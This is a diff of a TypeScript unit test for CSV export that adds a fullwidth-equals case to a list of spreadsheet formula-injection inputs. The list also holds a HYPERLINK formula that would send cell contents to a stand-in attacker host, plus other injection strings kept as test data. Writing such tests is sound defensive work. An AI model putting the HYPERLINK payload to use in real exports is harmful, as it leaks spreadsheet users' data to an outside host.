@@ -193,7 +193,7 @@ describe('text from the API made visible (unit)', async () => {
 
 describe.concurrent('csv for spreadsheets', async () => {
   const { parse } = await import('csv-parse/sync');
-  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '-cmd', '@SUM(1)', '\t=1+1', '\r=1+1', '=1;2', '+55 11 91234-5678'];
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '-cmd', '@SUM(1)', '\t=1+1', '\r=1+1', '=1;2', '+55 11 91234-5678', '\uff1dcmd'];
   const SAFE = ['Ana', "O'Neil", 'a=b', 'R$ 12,34', 'two\nlines', 'semi;colon', 'com,ma', 'quo"te', '  padded  ', '1-2'];
   const customer = (firstName: string, index: number) => ({
     id: `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`,
